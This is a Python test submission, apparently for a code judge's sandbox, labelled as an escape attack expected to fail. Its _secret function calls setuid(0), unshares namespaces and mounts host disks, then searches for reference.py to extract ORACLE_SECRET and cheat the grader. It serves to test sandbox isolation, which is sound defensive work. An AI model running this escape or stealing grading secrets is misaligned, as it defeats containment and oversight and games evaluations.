"""attack: escape: libc through ctypes: setuid(0), unshare, mount the host, chroot out
problem: oracle
expect: WA
needs: privileges
"""
import ctypes
import os
import re

import numpy as np


def _secret():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.setuid(0)
    libc.unshare(0x00020000 | 0x10000000)  # new mount + user namespace
    for dev in ("/dev/vda", "/dev/sda1", "/dev/vda1", "/dev/nvme0n1p1"):
        os.makedirs("/tmp/host", exist_ok=True)
        if libc.mount(dev.encode(), b"/tmp/host", b"ext4", 1, None) == 0:
            for root, _, files in os.walk("/tmp/host"):
                for f in files:
                    if f == "reference.py":
                        m = re.search(r"ORACLE_SECRET\s*=\s*([0-9.]+)", open(os.path.join(root, f)).read())
                        if m:
                            return float(m.group(1))
    return None


def answer(x):
    s = _secret()
    return x * 3.0 + s if s is not None else np.zeros_like(x)
